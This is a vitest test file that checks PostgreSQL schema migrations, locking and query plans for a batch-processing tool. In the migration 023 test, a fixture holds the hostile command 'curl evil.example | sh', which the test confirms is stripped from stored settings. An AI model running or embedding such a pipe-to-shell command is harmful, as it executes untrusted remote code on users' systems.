import { join } from 'node:path';
import pg from 'pg';
import { afterAll, beforeAll, describe, expect, it, onTestFinished, vi } from 'vitest';
import { exportRows, type ExportRow } from '../../src/runner/index.js';
import { startSim, type Sim } from '../../src/sim/index.js';
import { migrate as migratePg, migrations as pgMigrations } from '../../src/store/postgres/migrations.js';
import { MIGRATION_LOCK } from '../../src/store/postgres/migrations/lock.js';
import { PostgresStore } from '../../src/store/postgres/postgres-store.js';
import { sharedPgServer, type SharedPg } from '../support/pg-shared.js';
import { fixtureItems, writeFixture } from '../support/batch-fixture.js';
import { collect, runCliChild, tempDir } from '../support/cli.js';
import { COMMIT_BEFORE_019, COMMIT_BEFORE_020, hasCommit, spawnOldResq } from '../support/old-resq.js';
import { expectBatchWhole } from '../support/expect-batch.js';

let server: SharedPg;
beforeAll(async () => {
  server = await sharedPgServer();
}, 120_000);
afterAll(async () => server?.stop());

async function client(url: string): Promise<pg.Client> {
  const c = new pg.Client({ connectionString: url });
  await c.connect();
  return c;
}

describe('PostgreSQL migrations', () => {
  it('migrate a blank database once, and again changes nothing', async () => {
    const url = await server.createDatabase('mig_blank');
    const c = await client(url);
    try {
      expect(await migratePg(c)).toEqual(pgMigrations.map((m) => m.name));
      expect(await migratePg(c)).toEqual([]);
      const tables = (await c.query(`SELECT table_name FROM information_schema.tables WHERE table_schema = 'public' ORDER BY 1`)).rows.map((r) => r.table_name);
      expect(tables).toEqual(['_migrations', 'batch_spend', 'batches', 'decision_log', 'decisions', 'file_copies', 'files', 'flights', 'forecasts', 'item_counts', 'items', 'model_batches', 'model_runs', 'notify_commands', 'outbox', 'runs', 'threads', 'verdicts', 'web_login_codes', 'web_sessions', 'workers']);
      // Who decided and their note, in columns of their own (migration 016), as in SQLite.
      const cols = (await c.query(`SELECT column_name FROM information_schema.columns WHERE table_name = 'decision_log' ORDER BY ordinal_position`)).rows.map((r) => r.column_name);
      expect(cols).toEqual(['batch', 'item_id', 'tool', 'answer', 'by', 'person', 'note', 'cost', 'reason', 'decided_at']);
    } finally {
      await c.end();
    }
  });

  it('023 drops a notify command an older resq stored with a batch, and keeps its URLs and timings', async () => {
    const c = await client(await server.createDatabase('mig_023_command'));
    try {
      await migratePg(c, pgMigrations.slice(0, pgMigrations.findIndex((m) => m.name === '023_notify_command_local')));
      const notify = { urls: ['https://hooks.example.com/x'], command: 'curl evil.example | sh', format: 'json', includeQuestion: false, pageUrl: null, digestMs: 60_000, remindMs: null, stalledMs: null };
      const add = "INSERT INTO batches (id, name, source_path, source_sha256, settings, created_at, updated_at) VALUES ($1, $2, '/q.csv', 'x', $3, 'now', 'now')";
      await c.query(add, ['b1', 'told', JSON.stringify({ concurrency: 2, notify })]);
      await c.query(add, ['b2', 'quiet', JSON.stringify({ concurrency: 3 })]);
      expect(await migratePg(c)).toContain('023_notify_command_local');
      const rows = (await c.query<{ id: string; settings: string }>('SELECT id, settings FROM batches ORDER BY id')).rows;
      const { command: _gone, ...kept } = notify;
      expect(rows.map((r) => [r.id, JSON.parse(r.settings)])).toEqual([['b1', { concurrency: 2, notify: kept }], ['b2', { concurrency: 3 }]]);
      expect(rows[0]!.settings).not.toContain('evil');
    } finally {
      await c.end();
    }
  });

  it("026 gives each run its length: runs recorded before keep resq's own measure, and none ended unwatched", async () => {
    const c = await client(await server.createDatabase('mig_026_times'));
    try {
      await migratePg(c, pgMigrations.slice(0, pgMigrations.findIndex((m) => m.name === '026_run_service_times')));
      // The rows alone (no batch or item behind them): the foreign keys are not what is tested.
      await c.query('SET session_replication_role = replica');
      const add = "INSERT INTO runs (id, batch_num, item_id, step, idempotency_key, status, created_at, finished_at) VALUES ($1, 7, 'a', $2, $3, $4, $5, $6)";
      await c.query(add, ['r1', 0, 'k1', 'completed', '2026-01-01T00:00:00.000Z', '2026-01-01T00:00:02.345Z']);
      await c.query(add, ['r2', 1, 'k2', 'running', '2026-01-01T00:00:03.000Z', null]);
      await c.query('SET session_replication_role = DEFAULT');
      expect(await migratePg(c)).toContain('026_run_service_times');
      const rows = (await c.query('SELECT id, seconds, unwatched FROM runs ORDER BY id')).rows;
      expect(rows).toEqual([{ id: 'r1', seconds: 2.345, unwatched: 0 }, { id: 'r2', seconds: null, unwatched: 0 }]);
    } finally {
      await c.end();
    }
  });

  it('027 lets the files an older resq recorded be claimed: none held, tokens from 0', async () => {
    const c = await client(await server.createDatabase('mig_027_claims'));
    try {
      await migratePg(c, pgMigrations.slice(0, pgMigrations.findIndex((m) => m.name === '027_file_claims')));
      await c.query('SET session_replication_role = replica');
      await c.query("INSERT INTO files (batch_num, id, item_id, run_id, url, first_seen_at, expires_at) VALUES (7, 'f1', 'a', 'r1', 'http://svc/f', 'now', 'later')");
      await c.query('SET session_replication_role = DEFAULT');
      expect(await migratePg(c)).toContain('027_file_claims');
      const rows = (await c.query('SELECT id, claim_owner, claim_fence, claim_until, claim_host, claim_pid, claim_pid_start FROM files')).rows;
      expect(rows).toEqual([{ id: 'f1', claim_owner: null, claim_fence: '0', claim_until: null, claim_host: null, claim_pid: null, claim_pid_start: null }]);
    } finally {
      await c.end();
    }
  });

  it("032 puts each judge batch an older resq made in its judged batch's budget group, by its settings' judgeOf; other batches, and settings that are not JSON, keep budgets of their own", async () => {
    const url = await server.createDatabase('mig_032_budget_group');
    const c = await client(url);
    try {
      await migratePg(c, pgMigrations.slice(0, pgMigrations.findIndex((m) => m.name === '032_budget_group')));
      const add = "INSERT INTO batches (id, num, name, source_path, source_sha256, settings, created_at, updated_at) VALUES ($1, $2, $3, '/q.csv', 'x', $4, 'now', 'now')";
      await c.query(add, ['P', 1, 'parent', JSON.stringify({ concurrency: 2 })]);
      await c.query(add, ['J', 2, 'parent.judge', JSON.stringify({ concurrency: 2, judgeOf: 'P' })]);
      await c.query(add, ['O', 3, 'other', JSON.stringify({ concurrency: 2 })]);
      await c.query(add, ['G', 4, 'ghost.judge', JSON.stringify({ judgeOf: 'no-such-batch' })]);
      await c.query(add, ['N', 5, 'number.judge', JSON.stringify({ judgeOf: 1 })]);
      await c.query(add, ['S', 6, 'self.judge', JSON.stringify({ judgeOf: 'S' })]);
      await c.query(add, ['X', 7, 'broken', '{"judgeOf": "P", not json']);
      await c.query('INSERT INTO batch_spend (batch_num, approved) VALUES (1, 4), (2, 3), (3, 5)');
      expect(await migratePg(c)).toEqual(pgMigrations.slice(pgMigrations.findIndex((m) => m.name === '032_budget_group')).map((m) => m.name));
      expect((await c.query('SELECT id, spends_with::int AS n FROM batches ORDER BY num')).rows).toEqual(
        [['P', null], ['J', 1], ['O', null], ['G', null], ['N', null], ['S', null], ['X', null]].map(([id, n]) => ({ id, n })),
      );
    } finally {
      await c.end();
    }
    const store = await PostgresStore.open(url);
    try {
      expect([await store.budgetSpent('P'), await store.budgetSpent('J'), await store.budgetSpent('O')]).toEqual([7, 7, 5]);
      expect([await store.approvedCost('P'), await store.approvedCost('J')]).toEqual([4, 3]);
    } finally {
      await store.close();
    }
  });

  it('an open says, once, that it upgrades a database an older resq made, naming the migrations; a new or current one is opened without a word', async () => {
    const url = await server.createDatabase('mig_upgrade_said');
    const said: string[] = [];
    const onWait = (m: string): number => said.push(m);
    const c = await client(url);
    try {
      await migratePg(c, pgMigrations.slice(0, pgMigrations.findIndex((m) => m.name === '019_lean_items')));
    } finally {
      await c.end();
    }
    await (await PostgresStore.open(url, { onWait })).close();
    expect(said).toEqual([`upgrading the database ${url.replace(/:[^:@/]*@/, ':***@')} to this resq's schema (${pgMigrations.slice(pgMigrations.findIndex((m) => m.name === '019_lean_items')).map((m) => m.name).join(', ')}): a large one takes a while`]);
    await (await PostgresStore.open(url, { onWait })).close();
    await (await PostgresStore.open(await server.createDatabase('mig_new_silent'), { onWait })).close();
    expect(said).toHaveLength(1);
    expect(said[0]).not.toContain(new URL(url).password || '\u0000');
  });

  it('workers opening a fresh database together migrate it once (advisory lock)', async () => {
    const url = await server.createDatabase('mig_race');
    const c = await client(url);
    // The barrier: the migration lock held here until all four opens wait on it at once.
    await c.query('SELECT pg_advisory_lock($1)', [MIGRATION_LOCK]);
    const opening = Array.from({ length: 4 }, () => PostgresStore.open(url));
    const waiting = async () =>
      (await c.query<{ n: number }>(`SELECT count(*)::int AS n FROM pg_locks WHERE locktype = 'advisory' AND NOT granted AND database = (SELECT oid FROM pg_database WHERE datname = current_database())`)).rows[0]!.n;
    let together = false;
    for (let i = 0; i < 200 && !together; i++) {
      together = (await waiting()) === 4;
      if (!together) await new Promise((r) => setTimeout(r, 50));
    }
    await c.query('SELECT pg_advisory_unlock($1)', [MIGRATION_LOCK]);
    const stores = await Promise.all(opening);
    try {
      expect(together, 'the four opens waiting on the migration lock at once').toBe(true);
      const applied = (await c.query('SELECT name FROM _migrations')).rows.map((r) => r.name);
      expect(applied).toEqual(pgMigrations.map((m) => m.name));
    } finally {
      await c.end();
      await Promise.all(stores.map((s) => s.close()));
    }
  });

  it('a later migration applies on top of an existing schema, and a failing one leaves nothing behind', async () => {
    const url = await server.createDatabase('mig_next');
    const c = await client(url);
    try {
      await migratePg(c);
      const next = [...pgMigrations, { name: '999_probe', sql: 'ALTER TABLE batches ADD COLUMN probe TEXT' }];
      expect(await migratePg(c, next)).toEqual(['999_probe']);
      const broken = [...next, { name: '1000_broken', sql: 'ALTER TABLE batches ADD COLUMN x TEXT; SELECT nope FROM nowhere' }];
      await expect(migratePg(c, broken)).rejects.toThrow();
      const cols = (await c.query(`SELECT column_name FROM information_schema.columns WHERE table_name = 'batches' AND column_name IN ('probe', 'x')`)).rows.map((r) => r.column_name);
      expect(cols).toEqual(['probe']);
    } finally {
      await c.end();
    }
  });

  it('008 adds the error code columns on top of the schema before it, keeping its rows', async () => {
    const url = await server.createDatabase('mig_002');
    const c = await client(url);
    try {
      const before = pgMigrations.findIndex((m) => m.name.startsWith('008_'));
      await migratePg(c, pgMigrations.slice(0, before));
      await c.query("INSERT INTO batches (id, name, source_path, source_sha256, created_at, updated_at) VALUES ('b1', 'old', '/q.csv', 'abc', 'now', 'now')");
      await c.query("INSERT INTO items (batch_id, id, seq, line, question, state, error, updated_at) VALUES ('b1', 'a', 0, 2, 'q?', 'failed', 'run r1 ended with status failed', 'now')");
      expect(await migratePg(c)).toEqual(pgMigrations.slice(before).map((m) => m.name));
      const cols = (await c.query(`SELECT table_name || '.' || column_name AS c FROM information_schema.columns WHERE column_name IN ('error_code', 'error') AND table_name IN ('items', 'runs') ORDER BY 1`)).rows.map((r) => r.c);
      expect(cols).toEqual(['items.error', 'items.error_code', 'runs.error', 'runs.error_code']);
    } finally {
      await c.end();
    }
    const store = await PostgresStore.open(url);
    try {
      expect(await store.getItem('b1', 'a')).toMatchObject({ error: 'run r1 ended with status failed', errorCode: null });
    } finally {
      await store.close();
    }
  });

  it("015 adds the worker's process start identity; workers registered before it read with none", async () => {
    const url = await server.createDatabase('mig_015');
    const c = await client(url);
    try {
      const before = pgMigrations.findIndex((m) => m.name.startsWith('015_'));
      await migratePg(c, pgMigrations.slice(0, before));
      await c.query("INSERT INTO batches (id, name, source_path, source_sha256, created_at, updated_at) VALUES ('b1', 'old', '/q.csv', 'abc', 'now', 'now')");
      await c.query("INSERT INTO workers (id, batch_id, host, pid, started_at, heartbeat_at) VALUES ('w1', 'b1', 'h', 7, 'now', 1000)");
      expect(await migratePg(c)).toEqual(pgMigrations.slice(before).map((m) => m.name));
    } finally {
      await c.end();
    }
    const store = await PostgresStore.open(url);
    try {
      expect(await store.liveWorkers('b1', 60_000, 1000)).toEqual([expect.objectContaining({ id: 'w1', pid: 7, pidStart: null })]);
      const w = await store.registerWorker('b1', { host: 'h', pid: 8, pidStart: 'boot:99' }, 1000);
      expect((await store.liveWorkers('b1', 60_000, 1000)).find((x) => x.id === w.id)?.pidStart).toBe('boot:99');
    } finally {
      await store.close();
    }
  });

  it('012 fills the counts by state from the items a database already has, and its triggers keep them exact', async () => {
    const url = await server.createDatabase('mig_012');
    const c = await client(url);
    try {
      const before = pgMigrations.findIndex((m) => m.name.startsWith('012_'));
      await migratePg(c, pgMigrations.slice(0, before));
      await c.query("INSERT INTO batches (id, name, source_path, source_sha256, created_at, updated_at) VALUES ('b1', 'old', '/q.csv', 'abc', 'now', 'now'), ('b2', 'other', '/r.csv', 'abc', 'now', 'now')");
      await c.query(
        `INSERT INTO items (batch_id, id, seq, line, question, state, updated_at) VALUES
           ('b1', 'a', 0, 2, 'q?', 'completed', 'now'), ('b1', 'b', 1, 3, 'q?', 'completed', 'now'), ('b1', 'c', 2, 4, 'q?', 'held', 'now'),
           ('b1', 'd', 3, 5, 'q?', 'queued', 'now'), ('b1', 'e', 4, 6, 'q?', 'failed', 'now'), ('b2', 'a', 0, 2, 'q?', 'queued', 'now')`,
      );
      expect(await migratePg(c)).toEqual(pgMigrations.slice(before).map((m) => m.name));
      const kept = await c.query("SELECT state, n::int AS n FROM item_counts WHERE batch_num = (SELECT num FROM batches WHERE id = 'b1') ORDER BY state");
      expect(kept.rows).toEqual([
        { state: 'completed', n: 2 },
        { state: 'failed', n: 1 },
        { state: 'held', n: 1 },
        { state: 'queued', n: 1 },
      ]);
      // 019 gave every item its batch's integer key (020 left it the only one).
      const keyed = await c.query("SELECT b.id, count(*)::int AS n FROM items i JOIN batches b ON b.num = i.batch_num GROUP BY b.id ORDER BY b.id");
      expect(keyed.rows).toEqual([{ id: 'b1', n: 5 }, { id: 'b2', n: 1 }]);
      // Rows changed, added and deleted behind the store's back are counted too.
      await c.query("UPDATE items SET state = 'queued' WHERE batch_num = (SELECT num FROM batches WHERE id = 'b1') AND state IN ('failed', 'completed')");
      await c.query("INSERT INTO items (batch_num, id, seq, line, question, state, updated_at) SELECT num, 'f', 5, 7, 'q?', 'running', 'now' FROM batches WHERE id = 'b1'");
      await c.query("DELETE FROM items WHERE batch_num = (SELECT num FROM batches WHERE id = 'b1') AND id = 'c'");
    } finally {
      await c.end();
    }
    const store = await PostgresStore.open(url);
    const check = await client(url);
    try {
      for (const id of ['b1', 'b2']) {
        const fresh = await check.query('SELECT state, count(*)::int AS n FROM items WHERE batch_num = (SELECT num FROM batches WHERE id = $1) GROUP BY state', [id]);
        const counts = await store.itemCounts(id);
        expect(Object.fromEntries(Object.entries(counts).filter(([, n]) => n > 0))).toEqual(Object.fromEntries(fresh.rows.map((r) => [r.state, r.n])));
      }
      expect(await store.itemCounts('b1')).toMatchObject({ queued: 4, running: 1, held: 0, completed: 0 });
    } finally {
      await check.end();
      await store.close();
    }
  });

  it('two transactions changing one batch\'s states at once never wait on each other for the counts', async () => {
    const url = await server.createDatabase('mig_012_together');
    const store = await PostgresStore.open(url);
    await store.close();
    const [c1, c2] = [await client(url), await client(url)];
    try {
      await c1.query("INSERT INTO batches (id, name, source_path, source_sha256, created_at, updated_at) VALUES ('b1', 'b', '/q.csv', 'abc', 'now', 'now')");
      await c1.query(
        "INSERT INTO items (batch_num, id, seq, line, question, state, updated_at) SELECT b.num, 'i' || g, g, g + 2, 'q?', 'running', 'now' FROM batches b, generate_series(0, 3) g WHERE b.id = 'b1'",
      );
      // Any wait for a lock fails at once: a shared count row would make the second one wait.
      for (const c of [c1, c2]) await c.query("BEGIN; SET LOCAL lock_timeout = '200ms'");
      await c1.query("UPDATE items SET state = 'completed' WHERE batch_num = (SELECT num FROM batches WHERE id = 'b1') AND id = 'i0'");
      await c2.query("UPDATE items SET state = 'completed' WHERE batch_num = (SELECT num FROM batches WHERE id = 'b1') AND id = 'i1'");
      await c2.query("UPDATE items SET state = 'failed' WHERE batch_num = (SELECT num FROM batches WHERE id = 'b1') AND id = 'i2'");
      await c1.query("UPDATE items SET state = 'failed' WHERE batch_num = (SELECT num FROM batches WHERE id = 'b1') AND id = 'i3'");
      await c1.query('COMMIT');
      await c2.query('COMMIT');
      const sums = await c1.query("SELECT state, sum(n)::int AS n FROM item_counts WHERE batch_num = (SELECT num FROM batches WHERE id = 'b1') GROUP BY state HAVING sum(n) <> 0 ORDER BY state");
      expect(sums.rows).toEqual([
        { state: 'completed', n: 2 },
        { state: 'failed', n: 2 },
      ]);
    } finally {
      await Promise.all([c1.end(), c2.end()]);
    }
  });

  it('a wrong password is said without the password', async () => {
    const url = server.url.replace('postgres@', 'postgres:hunter2@').replace(/\/postgres$/, '/no_such_db');
    await expect(PostgresStore.open(url)).rejects.toThrow(/cannot use the database postgres:\/\/postgres:\*\*\*@/);
    await expect(PostgresStore.open(url)).rejects.not.toThrow(/hunter2/);
  });
});

/** The statements the adapter sent (text and values), read back from the pg client as they pass. */
function recordQueries(): { sent: { text: string; values: unknown[] }[]; stop: () => void } {
  const sent: { text: string; values: unknown[] }[] = [];
  const spy = vi.spyOn(pg.Client.prototype, 'query');
  return {
    sent,
    stop: () => {
      for (const [a, b] of spy.mock.calls as unknown[][]) {
        if (typeof a === 'string') sent.push({ text: a, values: Array.isArray(b) ? b : [] });
        else if (a && typeof a === 'object' && 'text' in a) sent.push({ text: String((a as pg.QueryConfig).text), values: (a as pg.QueryConfig).values ?? [] });
      }
      spy.mockRestore();
    },
  };
}

/** The plan PostgreSQL makes for the recorded statement that contains `marker` (with the values it was sent with). */
async function planOf(c: pg.Client, sent: readonly { text: string; values: unknown[] }[], marker: string): Promise<string> {
  const q = sent.find((x) => x.text.includes(marker));
  expect(q, marker).toBeDefined();
  return (await c.query(`EXPLAIN ${q!.text}`, q!.values)).rows.map((r) => r['QUERY PLAN']).join('\n');
}

/** Two batches of 6,000 queued items each (`p1`, `p2`: ids i0…), item k in thread `thread(k)`. */
async function loadPlans(store: PostgresStore, thread: (k: number) => string | null): Promise<void> {
  for (const id of ['p1', 'p2']) {
    const loader = await store.beginBatchLoad({
      id, name: `plans-${id}`, kind: 'runs', sourcePath: `/q/${id}.csv`, sourceSha256: 'abc', baseUrl: 'http://svc/api/v1',
      settings: { concurrency: 4, follow: 'sse', download: { enabled: false, concurrency: 2, out: null }, pipelineFile: null, service: 'sim' }, policy: null,
    });
    const n = 6000;
    await loader.addColumns({
      ids: Array.from({ length: n }, (_, k) => `i${k}`), lines: Array.from({ length: n }, (_, k) => k + 2),
      questions: Array.from({ length: n }, (_, k) => `q${k}?`), threads: Array.from({ length: n }, (_, k) => thread(k)), metas: Array.from({ length: n }, () => '{}'),
    }, 0);
    await loader.commit([]);
  }
}

describe('019: the readers of items use the batch_num indexes', () => {
  it('the claim (next queued, thread claim, unfinished in a thread) and the web sort read by batch_num through their indexes', async () => {
    const url = await server.createDatabase('mig_019_plans');
    const store = await PostgresStore.open(url);
    const c = await client(url);
    try {
      // Two batches, so a batch's rows are a part of the table, not all of it.
      await loadPlans(store, (k) => (k % 10 === 0 ? `t${k % 70}` : null));
      await store.cancelBatch('p2');
      const nums = (await c.query('SELECT b.id, b.num, count(*)::int AS n FROM items i JOIN batches b ON b.num = i.batch_num GROUP BY b.id, b.num ORDER BY b.id')).rows;
      expect(nums.map((r) => [r.id, r.n])).toEqual([['p1', 6000], ['p2', 6000]]);
      await c.query('ANALYZE items');
      const rec = recordQueries();
      try {
        const w = (await store.registerWorker('p1', { host: 'h', pid: 1 })).id;
        const got = await store.claimItems('p1', { workerId: w, leaseMs: 60_000, max: 3, cap: 50, afterSeq: -1 });
        expect(got.items.map((i) => i.id)).toEqual(['i0', 'i1', 'i2']);
        expect(await store.claimNextInThread('p1', 't0', 0, { workerId: w, leaseMs: 60_000, cap: 50 })).toBeNull();
        expect((await store.itemPage('p2', { sort: 'updated', desc: true, limit: 50 })).items).toHaveLength(50);
      } finally {
        rec.stop();
      }
      const plan = (marker: string): Promise<string> => planOf(c, rec.sent, marker);
      // The scan of `index`, and its own condition (the next Index Cond line): the batch's number.
      const uses = (p: string, index: string): void => {
        const lines = p.split('\n');
        const at = lines.findIndex((l) => new RegExp(`Index (Only )?Scan( Backward)? using ${index} on items`).test(l));
        expect(at, p).toBeGreaterThanOrEqual(0);
        expect(lines.slice(at + 1).find((l) => l.includes('Index Cond:')), p).toMatch(/Index Cond: \(+batch_num = /);
        expect(p).not.toMatch(/Seq Scan on items/);
      };
      uses(await plan("i.seq > $2 AND i.state = 'queued' AND NOT EXISTS (SELECT 1 FROM flights nf WHERE nf.item_key = i.key) ORDER BY i.seq LIMIT $3"), 'items_for_claim');
      uses(await plan("i.thread_key = $2 AND i.seq > $3 AND i.state = 'queued' AND NOT EXISTS"), 'items_for_thread_claim');
      uses(await plan('thread_key = $2 AND seq < $3'), 'items_for_thread_claim');
      uses(await plan('ORDER BY i.updated_at DESC, i.seq DESC'), 'items_for_web_sort');
      // The outbox's end-of-batch look-ups (019's outbox_item_moved), as the function sends them.
      const fn = (await c.query("SELECT prosrc FROM pg_proc WHERE proname = 'outbox_item_moved'")).rows[0].prosrc as string;
      const lookups = [...fn.matchAll(/SELECT 1 FROM items WHERE (.*?)\)(?: THEN)?$/gm)].map((m) => m[1]!);
      expect(lookups).toHaveLength(2);
      // Each by the batch's number, the key of items_for_claim and items_for_state_pages (on
      // batch_id only the key's prefix would be left to read the whole batch through).
      expect(lookups.map((l) => l.split(' AND ')[0])).toEqual(['batch_num = NEW.batch_num', 'batch_num = NEW.batch_num']);
    } finally {
      await c.end();
      await store.close();
    }
  }, 120_000);
});

/** A plan's scan of `index` (plain, index-only, backward or bitmap) and its own condition (the next Index Cond line): the batch's number first. */
function expectScanByNum(plan: string, index: string): void {
  const lines = plan.split('\n');
  const at = lines.findIndex((l) => new RegExp(`(Index (Only )?Scan( Backward)? using ${index} on|Bitmap Index Scan on ${index}\\b)`).test(l));
  expect(at, plan).toBeGreaterThanOrEqual(0);
  expect(lines.slice(at + 1).find((l) => l.includes('Index Cond:')), plan).toMatch(/Index Cond: \(+\w*\.?batch_num = /);
}

describe('020: the running approved cost, and the readers of runs, decisions, files, the outbox and the counts by batch_num', () => {
  it('batch_spend follows the decisions written behind the store\'s back: an insert adds its cost, a delete takes it off, the batch\'s delete takes the row with it', async () => {
    const url = await server.createDatabase('mig_020_spend');
    const c = await client(url);
    try {
      await migratePg(c);
      await c.query("INSERT INTO batches (id, name, source_path, source_sha256, created_at, updated_at) VALUES ('b1', 'one', '/q.csv', 'abc', 'now', 'now'), ('b2', 'two', '/r.csv', 'abc', 'now', 'now')");
      await c.query("INSERT INTO items (batch_num, id, seq, line, question, updated_at) SELECT num, 'a', 0, 2, 'q?', 'now' FROM batches");
      const add = (batch: string, run: string, cost: number) =>
        c.query(`INSERT INTO decisions (batch_num, item_id, run_id, tool, input, answer, by, cost, decided_at)
                 SELECT num, 'a', $2, 'confirm_scope', '{}', '{}', 'policy', $3, 'now' FROM batches WHERE id = $1`, [batch, run, cost]);
      const spent = async () => (await c.query('SELECT b.id, s.approved FROM batch_spend s JOIN batches b ON b.num = s.batch_num ORDER BY b.id')).rows;
      await add('b1', 'r1', 2.5);
      await add('b1', 'r2', 0);
      await add('b1', 'r3', 4);
      await add('b2', 'r1', 1);
      expect(await spent()).toEqual([{ id: 'b1', approved: 6.5 }, { id: 'b2', approved: 1 }]);
      await c.query("DELETE FROM decisions WHERE run_id = 'r3' AND batch_num = (SELECT num FROM batches WHERE id = 'b1')");
      expect(await spent()).toEqual([{ id: 'b1', approved: 2.5 }, { id: 'b2', approved: 1 }]);
      // A batch deleted: its items, decisions and spend go with it (cascades from batches(num)), the other batch's stay.
      await c.query("DELETE FROM batches WHERE id = 'b1'");
      expect(await spent()).toEqual([{ id: 'b2', approved: 1 }]);
      const left = await c.query("SELECT (SELECT count(*)::int FROM items) AS items, (SELECT count(*)::int FROM decisions) AS decisions");
      expect(left.rows[0]).toEqual({ items: 1, decisions: 1 });
    } finally {
      await c.end();
    }
  });

  it('runs of an item, decisions of an item and of a run, files by status, the outbox by key and the kept counts: each read by batch_num through the index named for it', async () => {
    const url = await server.createDatabase('mig_020_plans');
    const store = await PostgresStore.open(url);
    const c = await client(url);
    try {
      // Two batches of 6,000 items, each item with a run, a decision, a file and an outbox
      // row, and the counts of many batches: a batch's rows are a part of each table, not all of it.
      await loadPlans(store, () => null);
      await c.query(`INSERT INTO runs (id, batch_num, item_id, step, idempotency_key, status, created_at)
                     SELECT 'r-' || batch_num || '-' || id, batch_num, id, 0, 'k-' || key, 'requires_action', 'now' FROM items`);
      await c.query(`INSERT INTO decisions (batch_num, item_id, run_id, tool, input, answer, by, cost, decided_at)
                     SELECT batch_num, item_id, id, 'confirm_scope', '{}', '{}', 'policy', 1, 'now' FROM runs`);
      await c.query(`INSERT INTO files (batch_num, id, item_id, run_id, url, first_seen_at, expires_at, status)
                     SELECT batch_num, 'f-' || id, item_id, id, 'http://x', 'now', 'later', CASE WHEN ord % 100 = 0 THEN 'pending' ELSE 'downloaded' END FROM runs`);
      await c.query(`INSERT INTO outbox (batch_num, key, type, status, created_at) SELECT batch_num, 'e-' || id, 'test', 'sent', 0 FROM runs`);
      // The counts of many batches (numbers no batch has: the counts table has no foreign key), zero each.
      await c.query(`INSERT INTO item_counts (batch_num, state, slot, n) SELECT b, s.state, g, 0 FROM generate_series(1000, 1040) b,
                     (VALUES ('queued'), ('completed'), ('failed'), ('held')) s(state), generate_series(1, 100) g`);
      // The trigger kept the approved cost: one per decision.
      expect((await c.query('SELECT approved FROM batch_spend s JOIN batches b ON b.num = s.batch_num ORDER BY b.id')).rows).toEqual([{ approved: 6000 }, { approved: 6000 }]);
      expect(await store.approvedCost('p1')).toBe(6000);
      // Every item of p2 ended at one time (as the serve bench's 800,000): the latest ends are read
      // in items_for_rate's order, not sorted.
      await c.query(`UPDATE items SET state = 'completed', finished_at = '2026-01-01T00:00:00.000Z' WHERE batch_num = (SELECT num FROM batches WHERE id = 'p2')`);
      await c.query('ANALYZE');
      const rec = recordQueries();
      try {
        expect(await store.runChain('p1', 'i7')).toHaveLength(1);
        expect(await store.decisionsForItem('p1', 'i7')).toHaveLength(1);
        expect(await store.filesForBatch('p1', ['pending'])).toHaveLength(60);
        expect(await store.addOutboxEvent('p1', { key: 'probe', type: 'test', data: {} })).toBe(true);
        expect((await store.itemCounts('p1')).queued).toBe(6000);
        // A pause of a claimed item: its decision looked up by its run (one per paused run).
        const w = (await store.registerWorker('p1', { host: 'h', pid: 1 })).id;
        const [it] = (await store.claimItems('p1', { workerId: w, leaseMs: 60_000, max: 1, cap: 50, afterSeq: 6000 - 2 })).items;
        const admitted = await store.markAdmitted(it!, { id: 'r-new', status: 'running', threadId: null, step: 0, parentRunId: null, idempotencyKey: it!.pendingKey! });
        const run = { id: 'r-new', status: 'requires_action', threadId: null, createdAt: null, requiredAction: { tool: 'unknown', input: {} }, output: null, files: [] };
        expect((await store.markPaused(admitted, run, (spent) => ({ kind: 'hold', reason: `spent ${spent}` }))).outcome).toEqual({ kind: 'hold', reason: 'spent 6000' });
        expect((await store.recentFinishes('p2', 5)).finishedAt).toHaveLength(5);
      } finally {
        rec.stop();
      }
      const plan = (marker: string): Promise<string> => planOf(c, rec.sent, marker);
      expectScanByNum(await plan('FROM runs r WHERE r.batch_num'), 'runs_for_item');
      expectScanByNum(await plan('FROM decisions d WHERE d.batch_num = (SELECT'), 'decisions_for_item');
      expectScanByNum(await plan('d.run_id = $3'), 'decisions_for_run');
      expectScanByNum(await plan('f.status = ANY($2)'), 'files_for_status');
      expectScanByNum(await plan("SELECT 'kept' AS src"), 'item_counts_by_state');
      // The outbox's one event a key: the insert's conflict is found through outbox_for_key.
      expect(await plan('INSERT INTO outbox')).toMatch(/Conflict Arbiter Indexes: outbox_for_key/);
      const latest = await plan('ORDER BY finished_at DESC, seq DESC');
      expect(latest).toMatch(/Index Scan Backward using items_for_rate/);
      expect(latest).not.toMatch(/Sort/);
      for (const marker of ['FROM runs r WHERE r.batch_num', 'd.run_id = $3', 'f.status = ANY($2)']) expect(await plan(marker)).not.toMatch(/Seq Scan on (runs|decisions|files)/);
    } finally {
      await c.end();
      await store.close();
    }
  }, 120_000);
});

/** The tables that name a batch (batch_id before 020, batch_num after); the outbox came with 017. */
const CARRIERS_020 = ['items', 'threads', 'runs', 'decisions', 'files', 'file_copies', 'model_batches', 'model_runs', 'workers', 'item_counts', 'outbox'];

/** A schema's shape: its tables' columns (with types) and its indexes (with definitions). */
async function schemaOf(c: pg.Client): Promise<{ columns: string[]; indexes: string[] }> {
  const columns = (await c.query(`SELECT table_name || '.' || column_name || ' ' || data_type AS c FROM information_schema.columns WHERE table_schema = 'public' ORDER BY 1`)).rows.map((r) => r.c);
  const indexes = (await c.query(`SELECT indexname || ' ' || indexdef AS i FROM pg_indexes WHERE schemaname = 'public' ORDER BY 1`)).rows.map((r) => r.i);
  return { columns, indexes };
}

/** Each table's rows by the id of their batch (a batch_id column before 020, its number after), to compare across the migration. */
async function rowsByBatch(c: pg.Client, keyed: 'id' | 'num'): Promise<Record<string, unknown>[]> {
  const out: Record<string, unknown>[] = [];
  for (const t of CARRIERS_020) {
    if ((await c.query('SELECT to_regclass($1) AS t', [t])).rows[0].t === null) continue;
    const by = keyed === 'id' ? `x.batch_id` : `(SELECT id FROM batches WHERE num = x.batch_num)`;
    // The counts' rows are per server backend (a migration that moves states writes its own): their sum is the batch's items.
    const n = t === 'item_counts' ? 'sum(n)::int' : 'count(*)::int';
    out.push(...(await c.query(`SELECT '${t}' AS t, ${by} AS batch, ${n} AS n FROM ${t} x GROUP BY 2 ORDER BY 2`)).rows);
  }
  return out;
}

/** Only where the history is absent (no git, no origin to deepen a shallow clone from) is the old code's test skipped, said so. */
const HISTORY = [COMMIT_BEFORE_019, COMMIT_BEFORE_020].every(hasCommit);
if (!HISTORY) console.warn(`postgres-migrations: mid-batch tests skipped: this clone lacks ${COMMIT_BEFORE_019} or ${COMMIT_BEFORE_020}, the code before 019 and 020 they run`);

describe.skipIf(!HISTORY)('019 and 020 on a database left mid-batch by kill -9 of the code before them', () => {
